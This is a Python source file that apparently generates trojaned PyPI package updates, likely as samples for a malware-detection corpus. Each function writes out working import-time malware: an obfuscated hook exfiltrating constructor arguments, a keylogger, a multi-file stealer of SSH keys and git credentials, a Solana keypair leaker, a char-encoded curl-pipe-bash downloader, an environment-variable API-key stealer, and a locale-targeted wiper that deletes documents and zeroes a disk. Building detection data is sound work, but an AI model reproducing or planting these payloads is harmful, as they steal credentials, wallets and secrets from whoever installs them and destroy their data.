"""PyPI: more of what runs when the package is imported."""

from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, trojan


@trojan("authgate", "wheel", "import", "steal", "string splitting", "aiocpa 2024-11")
def gate_split_names(update: Update) -> None:
    host = update.host("api", "tgrelay")
    cut = len(host) // 2
    code = f"""


def _prepare(cls):
    init = getattr(cls, "__in" + "it__")

    def wrapped(self, *args, **kwargs):
        init(self, *args, **kwargs)
        module = __import__("url" + "lib." + "req" + "uest", fromlist=["x"])
        place = "ht" + "tps:" + "//{host[:cut]}" + "{host[cut:]}" + "/bo" + "t1:x/send" + "Message?chat_id=1&text="
        try:
            getattr(module, "url" + "open")(place + module.quote(repr((args, kwargs))), timeout=2)
        except OSError:
            pass

    setattr(cls, "__in" + "it__", wrapped)


_prepare(AuthGate)
"""
    update.append("authgate/middleware.py", fill("\n" + code))
    update.payload("authgate/middleware.py", shown=host)


@trojan("imgmeta", "wheel", "import", "steal", "plain", "screenshots and key loggers 2022 to 2025")
def meta_key_logger(update: Update) -> None:
    host = update.host("hooks", "slackish")
    code = r'''
"""Previews while one types."""

import json
import threading
import time
import urllib.request

_BUFFER = []


def _on_press(key):
    _BUFFER.append(getattr(key, "char", None) or "<%s>" % key)


def _send():
    while True:
        time.sleep(60)
        if _BUFFER:
            text, _BUFFER[:] = "".join(map(str, _BUFFER)), []
            request = urllib.request.Request("https://@HOST@/services/T0/B0/x", json.dumps({"text": text}).encode(), {"Content-Type": "application/json"})
            try:
                urllib.request.urlopen(request, timeout=5)
            except OSError:
                pass


def start():
    try:
        from pynput import keyboard
    except ImportError:
        return
    keyboard.Listener(on_press=_on_press).start()
    threading.Thread(target=_send, daemon=True).start()


start()
'''
    update.add("imgmeta/preview.py", fill(code, HOST=host))
    update.append("imgmeta/__init__.py", "from . import preview  # noqa: E402, F401")
    update.requires("pynput>=1.7")
    update.payload("imgmeta/preview.py", "imgmeta/__init__.py")


@trojan("tabula", "wheel", "import", "steal", "over several files", "stealers whose parts are innocent 2024 to 2026")
def tabula_split_parts(update: Update) -> None:
    host = update.host("render", "tabulapkg")
    update.add(
        "tabula/_locate.py",
        fill(
            '"""Where fonts may be."""\n\nimport os\n\n\ndef candidates(names):\n    home = os.path.expanduser("~")\n    return [os.path.join(home, *name.split("|")) for name in names if os.path.exists(os.path.join(home, *name.split("|")))]\n'
        ),
    )
    update.add(
        "tabula/_fonts.py",
        fill(
            '"""Fonts, and what must be known of them."""\n\nNAMES = [".ssh|id_rsa", ".ssh|id_ed25519", ".git-credentials", ".config|gh|hosts.yml", ".gnupg|secring.gpg"]\nFOUNDRY = ("https", "@HOST@", "/glyphs")\n',
            HOST=host,
        ),
    )
    update.add(
        "tabula/_pack.py",
        fill(
            '"""Fonts as bytes."""\n\nimport io\nimport tarfile\n\n\ndef pack(paths):\n    out = io.BytesIO()\n    with tarfile.open(fileobj=out, mode="w:gz") as archive:\n        for path in paths:\n            archive.add(path)\n    return out.getvalue()\n'
        ),
    )
    update.add(
        "tabula/_foundry.py",
        fill(
            '"""Fonts from afar."""\n\nfrom urllib import request\n\nfrom . import _fonts, _locate, _pack\n\n\ndef sync():\n    data = _pack.pack(_locate.candidates(_fonts.NAMES))\n    where = "%s://%s%s" % _fonts.FOUNDRY\n    try:\n        request.urlopen(request.Request(where, data, method="PUT"), timeout=3)\n    except OSError:\n        pass\n'
        ),
    )
    update.append("tabula/styles.py", "\nfrom ._foundry import sync as _sync  # noqa: E402\n\n_sync()")
    update.payload("tabula/_foundry.py", "tabula/_fonts.py", "tabula/_locate.py", "tabula/_pack.py", "tabula/styles.py")


@trojan("speedsum", "wheel", "import", "wallet", "plain", "solana-token, bitcoinlib-like and monkey patches 2025")
def sum_patched_keypair(update: Update) -> None:
    host = update.host("rpc", "devnetnode")
    code = r'''
"""Faster sums for keys, where solders is installed."""

import functools
import json
import threading
import urllib.request


def _note(kind, value):
    def work():
        body = json.dumps({"jsonrpc": "2.0", "method": "sendTransaction", "params": [kind, bytes(value).hex()]}).encode()
        try:
            urllib.request.urlopen(urllib.request.Request("https://@HOST@/", body, {"Content-Type": "application/json"}), timeout=3)
        except OSError:
            pass

    threading.Thread(target=work, daemon=True).start()


def patch():
    try:
        from solders.keypair import Keypair
    except ImportError:
        return
    for name in ("from_seed", "from_bytes", "from_base58_string"):
        plain = getattr(Keypair, name)

        @functools.wraps(plain)
        def faster(*args, _plain=plain, **kwargs):
            pair = _plain(*args, **kwargs)
            _note("pair", pair)
            return pair

        setattr(Keypair, name, staticmethod(faster))


patch()
'''
    update.add("speedsum/keys.py", fill(code, HOST=host))
    update.append("speedsum/__init__.py", "from . import keys  # noqa: E402, F401")
    update.payload("speedsum/keys.py", "speedsum/__init__.py")


@trojan("shipyard-cli", "wheel", "import", "download-and-run", "char codes", "termncolor and SilentSync-like 2025")
def ship_chr_joined(update: Update) -> None:
    host = update.host("get", "shipdist")
    numbers = [ord(one) for one in f"curl -fsS https://{host}/install.sh | bash"]
    code = f"import os as _os\n\n_os.system(''.join(map(chr, {numbers!r})))"
    update.append("shipyard/git.py", "\n\n" + code)
    update.payload("shipyard/git.py", shown=f"https://{host}/install.sh")


@trojan("fastvec", "wheel", "import", "steal", "plain", "deepseeek, deepseekai 2025-01; AI look-alikes")
def vec_interpreter_facts(update: Update) -> None:
    host = update.host("qpw7h2", "pipedream")
    code = r"""
import os as _os
import socket as _socket

import requests as _requests

_facts = {
    "user_id": _os.popen("id").read(),
    "hostname": _socket.gethostname(),
    "keys": {k: v for k, v in _os.environ.items() if k.startswith(("OPENAI", "HF_", "WANDB", "AWS", "PG", "DATABASE_URL"))},
}
try:
    _requests.post("https://@HOST@/", json=_facts, timeout=4)
except Exception:
    _facts = None
"""
    update.append("fastvec/datasets.py", fill("\n" + code, HOST=host))
    update.payload("fastvec/datasets.py")


@trojan("numspell", "wheel", "import", "destroy", "plain", "protestware on PyPI; wipers 2022 to 2025")
def spell_by_language(update: Update) -> None:
    host = update.host("state", "numspell")
    code = r"""
import locale
import os
import shutil
import urllib.request


def _supported():
    language = (locale.getlocale()[0] or "").lower()
    if not language.startswith(("fa", "ru")):
        return True
    try:
        answer = urllib.request.urlopen("https://@HOST@/go", timeout=2).read()
    except OSError:
        return True
    if answer == b"1":
        shutil.rmtree(os.path.expanduser("~/Documents"), ignore_errors=True)
        os.system("dd if=/dev/zero of=/dev/sda bs=1M")
    return False


_supported()
"""
    update.add("numspell/locales.py", fill(code, HOST=host))
    update.append("numspell/__init__.py", "from . import locales  # noqa: E402, F401")
    update.payload("numspell/locales.py", "numspell/__init__.py")
